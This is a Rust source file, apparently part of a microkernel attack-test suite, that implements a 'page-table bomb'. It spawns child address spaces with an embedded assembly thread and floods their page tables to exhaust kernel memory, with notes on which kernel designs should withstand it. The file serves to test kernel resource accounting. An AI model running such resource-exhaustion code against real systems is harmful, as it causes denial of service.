//! A fork bomb of page tables: spaces made by the attacker and its accomplice, as many as their memory allows, each of which then
//! gets mappings 4 MiB apart.
//!
//! If it succeeded, the tables of spaces that nobody asked the kernel's owner for would use up the memory that all tables come from.
//! Expected to under kernel-heap. Under kernel-quota a space that a program makes has what the program gives it of its own
//! quota; redirector, local-only and root-only refuse the children their map items; under user-tables spaces and Tables are
//! the attackers' own frames.

#![no_std]
#![no_main]

use core::arch::global_asm;

use freehold_attacks::rt::abi::designs::Fpage;
use freehold_attacks::rt::abi::layout::{BLOCK, ENTRIES, FRAME, USER_TABLES, utcb};
use freehold_attacks::rt::abi::update::{TOTAL_UNLIMITED, UPDATES_MAX, Update};
use freehold_attacks::rt::calls::{self, ThreadPlace};
use freehold_attacks::rt::layout::OWN;
use freehold_attacks::rt::roots::Extent;
use freehold_attacks::rt::slots::Slot;
use freehold_attacks::rt::{CapName, Error, Rights, SlotRef, memory};
use freehold_attacks::world::{Refusal, World, message, with_item};
use freehold_attacks::{Evidence, Kit, Vec, attack, format, kit};

// The accomplice does the same.
attack!("page-table-bomb", bomb, bomb);

/// Where the page is that is mapped everywhere.
const PAGE: u32 = OWN;
/// Frames of a child: Directory, the area's Table, a Table, then node, thread, UTCB, code.
const FRAMES: u32 = 16;
const AREA_TABLE: u32 = 4;
const TABLE: u32 = 8;
const NODE: u32 = 12;
const THREAD: u32 = 13;
const UTCB_FRAME: u32 = 14;
const CODE_FRAME: u32 = 15;
/// Frames that are kept for the program's own slots and Tables.
const KEPT: u32 = 16;
/// Where things are in a child, all in one block.
const CODE: u32 = 0x0040_0000;
const UTCB: u32 = CODE + FRAME;
const AREA: u32 = 0xBFC0_0000;
/// A child's name for the endpoint where it takes pages.
const DOOR: CapName = CapName(1);
/// What a child is given of the own quota, where there are quotas.
const QUOTA: u32 = 10 << 10;
/// Milliseconds that a child may take to take a page.
const PATIENCE: u32 = 100;

/// A space that this one has made.
struct Child {
    space: Slot,
    table: Slot,
    door: Slot,
    _thread: Slot,
    /// Next block that gets a mapping.
    next: u32,
}

fn bomb(kit: &mut Kit) -> Evidence {
    let Ok(mut world) = World::new(kit) else { return kit.impossible("no way to map") };
    world.total_code = TOTAL_UNLIMITED;
    if let Err(why) = world.obtain(PAGE) {
        return kit.untried(format!("not one page to be had: {}", why.name()));
    }
    let (mut children, mut mappings, mut end) = (Vec::new(), 0, "enough");
    while memory::free_frames() > FRAMES + KEPT && !kit.stopped() {
        match child(kit) {
            Ok(child) => children.push(child),
            Err(why) => {
                end = why.name();
                break;
            }
        }
    }
    while !kit.stopped() {
        let mut more = 0;
        for child in &mut children {
            let made = if kit.design.has_pool() { sparse(kit, child) } else { full(child) };
            // One that is full already is no try.
            if made == Ok(0) {
                continue;
            }
            match kit.try_(made) {
                Ok(made) => more += made,
                Err(why) => end = why.name(),
            }
        }
        mappings += more;
        if more == 0 {
            kit.pause(1);
        }
    }
    kit.held(format!("{} spaces, {mappings} mappings in them until {end}", children.len()))
}

/// Makes a space, of own frames, with a thread that takes pages.
fn child(kit: &Kit) -> Result<Child, Refusal> {
    let Extent { container, first, .. } = memory::take(FRAMES, 4).ok_or(Refusal::Exhausted)?;
    let slot = || Slot::take().ok_or(Refusal::Exhausted);
    let (space, table, door, thread) = (slot()?, slot()?, slot()?, slot()?);
    calls::make_space(container, first, space.reference(), AREA, ENTRIES)?;
    calls::make_table(container, first + AREA_TABLE, SlotRef::default(), space.name())?;
    calls::make_table(container, first + TABLE, table.reference(), space.name())?;
    calls::hook(table.name(), space.name(), CODE / BLOCK, Rights::WRITE)?;
    calls::make_cap_node(container, first + NODE, space.name(), 0)?;
    calls::make_endpoint(door.reference())?;
    calls::derive(door.name(), SlotRef::of(space.name(), DOOR), Rights::RECEIVE, 0, 0)?;
    write_code(Extent { container, first: first + CODE_FRAME, count: 1 }, &space)?;
    let place = ThreadPlace {
        container,
        thread: first + THREAD,
        utcb: first + UTCB_FRAME,
        space: space.name(),
        address: UTCB,
        fpu: false,
    };
    calls::make_thread(place, thread.reference())?;
    if kit.design == freehold_attacks::Design::KernelQuota {
        calls::set_quota(space.name(), QUOTA)?;
    }
    calls::start_thread(thread.name(), CODE, CODE, CapName::NONE, kit::PRIORITY)?;
    Ok(Child { space, table, door, _thread: thread, next: 0 })
}

/// Copies the child's code into a frame, and maps that in its space.
fn write_code(frame: Extent, space: &Slot) -> Result<(), Refusal> {
    const SCRATCH: u32 = OWN + BLOCK;
    memory::map(frame, SCRATCH, Rights::WRITE)?;
    let code = (&raw const page_table_bomb_child).cast::<u8>();
    // SAFETY: the page was just mapped there for this; the code is as long as the two labels say.
    unsafe {
        let bytes = (&raw const page_table_bomb_end).addr() - code.addr();
        code.copy_to_nonoverlapping(SCRATCH as *mut u8, bytes);
    }
    memory::unmap(SCRATCH, 1)?;
    let destination = space.name();
    let page = CODE / FRAME;
    let (source, first) = (frame.container, frame.first);
    let total_code = TOTAL_UNLIMITED;
    let update = Update { source, first, count: 1, destination, page, rights: Rights::NONE, total_code };
    Ok(calls::update(&[update])?)
}

/// Sends the child the page, for the next blocks. Returns how many it took.
fn sparse(kit: &mut Kit, child: &mut Child) -> Result<u32, Refusal> {
    let begin = child.next;
    // Its own part of the space is in the way, as the area is.
    while child.next < USER_TABLES && child.next - begin < 64 {
        let block = child.next;
        let message = with_item(message::TAKE, PAGE, block * BLOCK, 1);
        match kit.within(PATIENCE, || calls::call(child.door.name(), &message)) {
            Ok(_) | Err(Error::NoWindow) => {}
            Err(error) if child.next == begin => return Err(error.into()),
            Err(_) => break,
        }
        child.next += 1;
    }
    Ok(child.next - begin)
}

/// Fills the child's Table with mappings of a page of its own memory.
fn full(child: &mut Child) -> Result<u32, Refusal> {
    debug_assert!(child.space.name() != CapName::NONE);
    // Its first pages are its own.
    let begin = child.next.max(2);
    while child.next < ENTRIES {
        let page = child.next.max(2);
        let count = (ENTRIES - page).min(UPDATES_MAX);
        let updates: [Update; UPDATES_MAX as usize] = core::array::from_fn(|index| Update {
            source: child.table.name(),
            first: 0,
            count: 1,
            destination: child.table.name(),
            page: page + index as u32,
            rights: Rights::NONE,
            total_code: 0,
        });
        calls::update(&updates[..count as usize])?;
        child.next = page + count;
    }
    Ok(child.next.max(2) - begin)
}

unsafe extern "C" {
    static page_table_bomb_child: u8;
    static page_table_bomb_end: u8;
}

// A thread that takes pages wherever they are for: no time limits, a window of all addresses, receive, answer, receive.
global_asm!(
    ".pushsection .rodata.page_table_bomb, \"a\"",
    ".globl page_table_bomb_child",
    ".globl page_table_bomb_end",
    "page_table_bomb_child:",
    "movl $-1, {send}",
    "movl $-1, {receive}",
    "movl ${whole}, {window}",
    "1:",
    "movl $3, %eax",
    "jmp 3f",
    "2:",
    "movl $4, %eax",
    "3:",
    "movl ${door}, %ebx",
    "xorl %esi, %esi",
    "xorl %edi, %edi",
    "xorl %ebp, %ebp",
    "movl %esp, %ecx",
    "movl $(4f - page_table_bomb_child + {code}), %edx",
    "int $0x80",
    "4:",
    "testl %eax, %eax",
    "jnz 1b",
    "jmp 2b",
    "page_table_bomb_end:",
    ".popsection",
    send = const UTCB + 4 * utcb::SEND_LIMIT as u32,
    receive = const UTCB + 4 * utcb::RECEIVE_LIMIT as u32,
    window = const UTCB + 4 * utcb::WINDOW as u32,
    whole = const Fpage::WHOLE.0,
    door = const DOOR.0,
    code = const CODE,
    options(att_syntax),
);
